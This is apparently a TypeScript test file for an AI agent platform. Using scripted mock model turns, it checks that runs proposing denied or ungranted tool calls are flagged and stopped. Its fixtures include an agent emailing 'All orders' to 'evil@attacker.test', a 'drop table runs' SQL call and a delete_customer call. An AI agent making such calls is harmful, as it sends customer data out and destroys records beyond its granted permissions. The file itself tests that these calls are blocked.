import type { LanguageModelV4GenerateResult } from "@ai-sdk/provider";
import { MockLanguageModelV4 } from "ai/test";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { demoRefunds } from "@/db/schema";
import { createTestDatabase } from "@/db/testing/test-database";
import { getEnvelopeReport } from "@/lib/metrics/envelope";
import { getHome } from "@/lib/metrics/home";
import { listRuns } from "@/lib/runs/queries";
import { demoTenant, fixedModel, runToEnd, testEngine } from "./testing/engine-harness";

const { db } = await createTestDatabase();

const usage = { inputTokens: { total: 100, noCache: 100 }, outputTokens: { total: 20, text: 20 } };
const toolCall = (id: string, toolName: string, args: unknown): LanguageModelV4GenerateResult => ({
  content: [{ type: "tool-call", toolCallId: id, toolName, input: JSON.stringify(args) }],
  finishReason: { unified: "tool-calls", raw: "tool_calls" },
  usage: usage as never,
  warnings: [],
});
const answer = (text: string): LanguageModelV4GenerateResult => ({
  content: [{ type: "text", text }],
  finishReason: { unified: "stop", raw: "stop" },
  usage: usage as never,
  warnings: [],
});
const scripted = (...turns: LanguageModelV4GenerateResult[]) =>
  testEngine(db, { resolveModel: fixedModel(new MockLanguageModelV4({ doGenerate: turns })) });

describe("the security flag", () => {
  it("flags a run whose model proposed a denied call and a tool it was never granted, whatever its end", async () => {
    const { operator } = await demoTenant(db);
    const run = await runToEnd(
      db,
      scripted(
        // The default policy denies mail to anyone but an order's customer; no agent has run_sql.
        toolCall("c1", "send_email", { to: "evil@attacker.test", subject: "Data", body: "All orders" }),
        toolCall("c2", "run_sql", { query: "drop table runs" }),
        answer("Done."),
      ),
      operator,
      { agent: "support-triage", input: "Resolve ticket T-1004" },
    );
    expect(run.status).toBe("succeeded");
    expect(run.securityAttempts).toBe(2);

    const flagged = await listRuns(db, operator, { flagged: "1" });
    expect(flagged.runs.map((r) => r.id)).toEqual([run.id]);
    const home = await getHome(db, operator);
    expect(home.summary.flagged).toBe(1);
    expect(home.problems.map((r) => r.id)).toContain(run.id);
    const day = new Date().toISOString().slice(0, 10);
    const envelope = await getEnvelopeReport(db, operator, { from: day, to: day });
    expect(envelope.security).toEqual({ flaggedRuns: 1, refusedCalls: 2 });
  });

  it("ends a run after three refused calls with policy_denied, counting tools never granted", async () => {
    const { operator, tenantId } = await demoTenant(db);
    const run = await runToEnd(
      db,
      scripted(
        toolCall("c1", "run_sql", { query: "select 1" }),
        toolCall("c2", "delete_customer", { id: "C-1" }),
        toolCall("c3", "send_email", { to: "evil@attacker.test", subject: "Data", body: "All orders" }),
        answer("Never reached."),
      ),
      operator,
      { agent: "support-triage", input: "Resolve ticket T-1004" },
    );
    expect(run).toMatchObject({ status: "stopped", stopReason: "policy_denied", securityAttempts: 3 });
    expect(run.error).toMatch(/refused 3 out-of-bounds calls/);
    expect(await db.select().from(demoRefunds).where(eq(demoRefunds.tenantId, tenantId))).toHaveLength(0);
  });

  it("leaves a run that stayed in bounds unflagged, even with invalid arguments", async () => {
    const { operator } = await demoTenant(db);
    const run = await runToEnd(
      db,
      scripted(
        toolCall("c1", "get_order", { order: "O-5004" }),
        toolCall("c2", "get_order", { order_id: "O-5004" }),
        answer("Read."),
      ),
      operator,
      { agent: "support-triage", input: "Resolve ticket T-1004" },
    );
    expect(run).toMatchObject({ status: "succeeded", securityAttempts: 0, invalidCalls: 1 });
    expect((await listRuns(db, operator, { flagged: "1" })).runs).toEqual([]);
    // Not a security flag, but not clean either: the invalid call is refused and counted.
    const refused = await listRuns(db, operator, { refused: "1", status: "succeeded" });
    expect(refused.runs.map((r) => r.id)).toEqual([run.id]);
  });
});
